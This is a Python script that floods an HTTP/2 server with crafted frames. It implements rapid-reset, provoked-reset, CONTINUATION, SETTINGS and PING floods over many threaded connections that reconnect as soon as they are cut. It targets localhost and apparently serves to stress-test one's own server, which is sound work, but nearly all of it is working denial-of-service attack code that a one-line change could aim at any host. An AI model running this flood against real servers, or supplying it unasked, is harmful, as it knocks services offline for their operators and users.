"""Floods of HTTP/2 frames, which no shipped tool makes: `frames.py KIND PORT SECONDS CONNECTIONS`.

Each connection sends as fast as it is taken, reads what comes, and is made anew when it is cut. Prints what was sent.
"""

import itertools
import select
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
AT_ONCE = 50


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(method):
    pairs = ((b":method", method), (b":scheme", b"http"), (b":authority", b"example.org"), (b":path", b"/x"))
    return b"".join(field(name, value) for name, value in pairs)


GET, POST = head(b"GET"), head(b"POST")


def reset(streams):
    """A request, taken back at once."""
    for stream in itertools.islice(streams, AT_ONCE):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, GET)
        yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_to_reset(streams):
    """A request, and a mistake that makes the other side take it back."""
    for stream in itertools.islice(streams, AT_ONCE):
        yield frame(HEADERS, END_HEADERS, stream, POST)
        yield frame(WINDOW_UPDATE, 0, stream, bytes(4))


def continuation(streams):
    """A head that does not end."""
    stream = next(streams)
    if stream == 1:
        yield frame(HEADERS, END_STREAM, 1, GET)
    for number in range(AT_ONCE):
        yield frame(CONTINUATION, 0, 1, field(b"x-%d" % number, b"y" * 100) * 50)


def settings(_):
    for _ in range(AT_ONCE):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))


def ping(_):
    for _ in range(AT_ONCE):
        yield frame(PING, 0, 0, bytes(8))


KINDS = {function.__name__: function for function in (reset, made_to_reset, continuation, settings, ping)}


class Flood:
    def __init__(self, kind, port, seconds):
        self._kind, self._port = KINDS[kind], port
        self._until = time.monotonic() + seconds
        self._lock = threading.Lock()
        self.connections = self.frames = 0

    def keep_on(self):
        while time.monotonic() < self._until:
            try:
                with socket.create_connection(("127.0.0.1", self._port), timeout=2) as connection:
                    self._flood(connection)
            except OSError:
                time.sleep(0.01)

    def _flood(self, connection):
        with self._lock:
            self.connections += 1
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        streams = itertools.count(1, 2)
        while time.monotonic() < self._until:
            frames = list(self._kind(streams))
            connection.sendall(b"".join(frames))
            with self._lock:
                self.frames += len(frames)
            while select.select([connection], [], [], 0)[0]:
                if not connection.recv(65536):
                    return


def main(kind, port, seconds, connections):
    flood = Flood(kind, int(port), float(seconds))
    threads = [threading.Thread(target=flood.keep_on) for _ in range(int(connections))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(f"{flood.frames} frames over {flood.connections} connections")


if __name__ == "__main__":
    main(*sys.argv[1:])
